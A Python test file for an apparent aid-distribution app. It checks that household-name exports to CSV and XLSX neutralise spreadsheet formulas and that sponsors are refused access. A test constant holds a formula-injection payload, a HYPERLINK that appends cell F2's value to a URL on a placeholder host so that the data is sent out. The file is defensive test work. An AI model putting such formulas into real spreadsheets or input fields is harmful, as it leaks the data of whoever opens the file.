"""Exports are safe to open for every role: names run as no formula and break no file."""

import csv
import io

import pytest
from openpyxl import load_workbook

from relief.households.models import Household
from tests.factories import login_as, make_household, make_user

FORMULA = '=HYPERLINK("http://x/?"&F2,"Xem")'


@pytest.mark.parametrize("role", ["admin", "province", "commune"])
async def test_household_names_export_as_plain_text_in_csv_and_xlsx(client, role):
    # Rows stored before text was cleaned at entry (or by the migration) still export.
    await make_household(head_name=FORMULA)
    bel = await make_household(head_name="Hoàng Văn Bé", birth_year=1980)
    await Household.filter(id=bel.id).update(head_name="Hoàng\x07Văn Bé")
    await login_as(client, await make_user(role))
    url = "/reports/export/households/{}?commune=05725"

    response = await client.get(url.format("csv"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert "HoàngVăn Bé" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)

    response = await client.get(url.format("xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
    assert values[FORMULA] == "s"  # a string cell: shown as text, never evaluated
    assert "HoàngVăn Bé" in values
    assert "f" not in values.values()


async def test_a_sponsor_asking_for_an_export_is_refused_not_served_an_error(client):
    bel = await make_household(head_name="Hoàng Văn Bé")
    await Household.filter(id=bel.id).update(head_name="Hoàng\x07Văn Bé")
    await login_as(client, await make_user("sponsor"))
    for fmt in ("csv", "xlsx"):
        response = await client.get(f"/reports/export/households/{fmt}")
        # A sponsor may not use the household export at all (README, Security): 403.
        assert response.status_code == 403
        assert "Hoàng" not in response.text
